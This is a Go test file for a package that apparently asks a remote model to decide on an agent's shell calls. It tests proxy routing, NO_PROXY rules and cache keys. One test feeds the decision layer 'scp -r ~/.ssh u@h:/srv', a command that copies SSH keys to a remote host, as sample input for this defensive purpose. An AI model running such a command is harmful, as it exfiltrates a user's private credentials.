package decisionmodel

import (
	"context"
	"net/url"
	"testing"
)

// remoteHost is a name covered by the httptest certificate
// (*.example.com); it is never resolved: proxies and the mapping dialer
// send it to the fake model.
const remoteHost = "model.example.com"

func remoteEndpoint() string {
	return "https://" + remoteHost + endpointPath + "?" + endpointQuery
}

func TestProxySOCKS5h(t *testing.T) {
	m := newFakeModel(t)
	for _, scheme := range []string{"socks5h", "socks5"} {
		t.Run(scheme, func(t *testing.T) {
			before := m.count()
			proxyAddr, log := startSOCKS5(t, m.srv.Listener.Addr().String())
			l := New(WithRootCAs(m.pool()), WithGetenv(noEnv))
			opts := m.options(KeyEndpoint, remoteEndpoint(), KeyProxy, scheme+"://"+proxyAddr)
			if _, err := l.Decide(context.Background(), shellCall("ls", opts, "")); err != nil {
				t.Fatalf("Decide through %s: %v", scheme, err)
			}
			if got := log.list(); len(got) != 1 || got[0] != remoteHost+":443" {
				t.Errorf("SOCKS targets = %v, want [%s:443] (name resolved by the proxy)", got, remoteHost)
			}
			if m.count() != before+1 {
				t.Fatalf("fake model saw %d requests", m.count()-before)
			}
			r := m.last(t)
			if r.Path != endpointPath || r.RawQuery != endpointQuery {
				t.Errorf("through proxy: %s?%s", r.Path, r.RawQuery)
			}
		})
	}
}

func TestProxyHTTPConnect(t *testing.T) {
	m := newFakeModel(t)
	proxyAddr, log := startConnectProxy(t, m.srv.Listener.Addr().String())
	l := New(WithRootCAs(m.pool()), WithGetenv(noEnv))
	opts := m.options(KeyEndpoint, remoteEndpoint(), KeyProxy, "http://"+proxyAddr)
	if _, err := l.Decide(context.Background(), shellCall("ls", opts, "")); err != nil {
		t.Fatalf("Decide through CONNECT proxy: %v", err)
	}
	if got := log.list(); len(got) != 1 || got[0] != remoteHost+":443" {
		t.Errorf("CONNECT targets = %v", got)
	}
	if r := m.last(t); r.Path != endpointPath || r.RawQuery != endpointQuery || r.Header.Get("Authorization") != "Bearer "+testAPIKey {
		t.Errorf("request through proxy: %s?%s auth %q", r.Path, r.RawQuery, r.Header.Get("Authorization"))
	}
}

// TestProxyLoopbackDirect: an explicit proxy is never used for loopback.
func TestProxyLoopbackDirect(t *testing.T) {
	m := newFakeModel(t)
	proxyAddr, proxyHits := startCountingListener(t)
	l := New(WithRootCAs(m.pool()), WithGetenv(noEnv))
	for _, scheme := range []string{"http", "socks5h"} {
		opts := m.options(KeyProxy, scheme+"://"+proxyAddr) // endpoint is https://127.0.0.1:port
		if _, err := l.Decide(context.Background(), shellCall("ls", opts, "")); err != nil {
			t.Fatalf("%s: %v", scheme, err)
		}
	}
	if proxyHits() != 0 {
		t.Errorf("loopback endpoint went through the proxy %d times", proxyHits())
	}
}

// TestProxyEnvironment: with no decision_model_proxy, HTTPS_PROXY is used
// and NO_PROXY bypasses it with net/http's rules.
func TestProxyEnvironment(t *testing.T) {
	m := newFakeModel(t)
	backend := m.srv.Listener.Addr().String()
	proxyAddr, log := startConnectProxy(t, backend)
	dial := WithDialContext(dialMapping(map[string]string{remoteHost + ":443": backend}))

	cases := []struct {
		name      string
		env       map[string]string
		viaProxy  bool
		endpoint  string
		wantProxy string
	}{
		{"HTTPS_PROXY", map[string]string{"HTTPS_PROXY": "http://" + proxyAddr}, true, remoteEndpoint(), remoteHost + ":443"},
		{"lowercase https_proxy", map[string]string{"https_proxy": "http://" + proxyAddr}, true, remoteEndpoint(), remoteHost + ":443"},
		{"NO_PROXY exact domain", map[string]string{"HTTPS_PROXY": "http://" + proxyAddr, "NO_PROXY": "model.example.com"}, false, remoteEndpoint(), ""},
		{"NO_PROXY parent domain", map[string]string{"HTTPS_PROXY": "http://" + proxyAddr, "NO_PROXY": "example.com"}, false, remoteEndpoint(), ""},
		{"NO_PROXY star", map[string]string{"HTTPS_PROXY": "http://" + proxyAddr, "NO_PROXY": "*"}, false, remoteEndpoint(), ""},
		{"NO_PROXY other domain", map[string]string{"HTTPS_PROXY": "http://" + proxyAddr, "NO_PROXY": "other.test"}, true, remoteEndpoint(), remoteHost + ":443"},
		{"HTTP_PROXY only does not cover https", map[string]string{"HTTP_PROXY": "http://" + proxyAddr}, false, remoteEndpoint(), ""},
		{"loopback never proxied", map[string]string{"HTTPS_PROXY": "http://" + proxyAddr}, false, m.endpoint(), ""},
		{"no environment", nil, false, remoteEndpoint(), ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			before := len(log.list())
			l := New(WithRootCAs(m.pool()), dial, WithGetenv(func(k string) string { return c.env[k] }))
			if _, err := l.Decide(context.Background(), shellCall("ls", m.options(KeyEndpoint, c.endpoint), "")); err != nil {
				t.Fatalf("Decide: %v", err)
			}
			got := log.list()[before:]
			if c.viaProxy != (len(got) == 1) {
				t.Fatalf("proxy targets %v, want via proxy %v", got, c.viaProxy)
			}
			if c.viaProxy && got[0] != c.wantProxy {
				t.Errorf("proxy target %q, want %q", got[0], c.wantProxy)
			}
		})
	}
}

func noEnv(string) string { return "" }

// TestCacheTransportSeparatesEntries: an answer obtained through one
// transport is never served to another. A call through a proxy the
// environment names (the agent's HTTPS_PROXY) stores its answer under its
// own key: the same call made directly goes to the network; a repeat
// through the same transport is a hit (TestTransportKey covers the CA
// settings).
func TestCacheTransportSeparatesEntries(t *testing.T) {
	m := newFakeModel(t)
	backend := m.srv.Listener.Addr().String()
	proxyAddr, log := startConnectProxy(t, backend)
	dial := WithDialContext(dialMapping(map[string]string{remoteHost + ":443": backend}))
	data := t.TempDir()
	opts := m.options(KeyEndpoint, remoteEndpoint(), KeyCache, "1")
	layer := func(env map[string]string) *Layer {
		return New(WithRootCAs(m.pool()), dial, WithGetenv(func(k string) string { return env[k] }))
	}
	viaProxy := map[string]string{"HTTPS_PROXY": "http://" + proxyAddr}
	steps := []struct {
		name    string
		l       *Layer
		network bool
		proxied bool
	}{
		{"through the agent's proxy", layer(viaProxy), true, true},
		{"same proxy again: hit", layer(viaProxy), false, false},
		{"direct: not the proxy's answer", layer(nil), true, false},
		{"direct again: hit", layer(nil), false, false},
		{"NO_PROXY for the endpoint: the direct entry", layer(map[string]string{"HTTPS_PROXY": "http://" + proxyAddr, "NO_PROXY": remoteHost}), false, false},
	}
	for _, s := range steps {
		before, proxied := m.count(), len(log.list())
		if _, err := s.l.Decide(context.Background(), shellCall("scp -r ~/.ssh u@h:/srv", opts, data)); err != nil {
			t.Fatalf("%s: %v", s.name, err)
		}
		if got := m.count() > before; got != s.network {
			t.Errorf("%s: network round trip %v, want %v", s.name, got, s.network)
		}
		if got := len(log.list()) > proxied; got != s.proxied {
			t.Errorf("%s: through the proxy %v, want %v", s.name, got, s.proxied)
		}
	}
}

// TestTransportKey: the explicit proxy setting, the environment's proxy as
// resolved for the endpoint, and the CA settings all change the key; a
// NO_PROXY that does not cover the endpoint does not.
func TestTransportKey(t *testing.T) {
	u, _ := url.Parse("https://model.example.com/v1/chat/completions")
	p, _ := url.Parse("http://127.0.0.1:3128")
	s := &settings{endpoint: u}
	key := func(s *settings, env map[string]string) string {
		return transportKey(s, transportDeps{getenv: func(k string) string { return env[k] }})
	}
	base := key(s, nil)
	for name, other := range map[string]string{
		"explicit proxy":  key(&settings{endpoint: u, proxy: p}, nil),
		"HTTPS_PROXY":     key(s, map[string]string{"HTTPS_PROXY": "http://10.0.0.1:8080"}),
		"lowercase proxy": key(s, map[string]string{"https_proxy": "http://10.0.0.1:8080"}),
		"SSL_CERT_FILE":   key(s, map[string]string{"SSL_CERT_FILE": "/x.pem"}),
		"SSL_CERT_DIR":    key(s, map[string]string{"SSL_CERT_DIR": "/certs"}),
	} {
		if other == base {
			t.Errorf("%s does not change the transport key", name)
		}
	}
	if got := key(s, map[string]string{"HTTP_PROXY": "http://10.0.0.1:8080", "NO_PROXY": "other.test"}); got != base {
		t.Errorf("an HTTP_PROXY that an https endpoint does not use changed the key: %q vs %q", got, base)
	}
}
